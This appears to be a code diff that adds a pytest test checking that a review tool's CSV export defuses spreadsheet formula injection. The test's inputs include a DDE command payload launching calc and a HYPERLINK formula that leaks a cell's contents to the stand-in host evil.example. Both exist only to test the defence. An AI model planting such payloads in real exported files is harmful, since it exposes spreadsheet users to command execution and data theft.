@@ -107,6 +107,19 @@ def test_export_csv_and_json(session):
         export_reviews(session, "xml")
 
 
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_csv_neutralises_formula_cells(session, lead):
+    formula = lead + 'HYPERLINK("http://evil.example/?"&A1,"x")'
+    add_review(session, "t1", "accept", lead + "cmd|' /C calc'!A0", formula)
+    rows = list(csv.DictReader(io.StringIO(export_reviews(session, "csv"))))
+    # The reviewer name is stripped when saved, so a leading tab or CR never reaches it.
+    for field in ("note", "reviewer") if lead.strip() else ("note",):
+        cell = rows[0][field]
+        assert cell.startswith("'"), (field, cell)
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert rows[0]["note"] == "'" + json.loads(export_reviews(session, "json"))[0]["note"]
+
+
 def test_cli_review_and_tasks_json(tmp_path, capsys):
     url = fresh_url(tmp_path, "cli")
     with Session(get_engine(url)) as s:
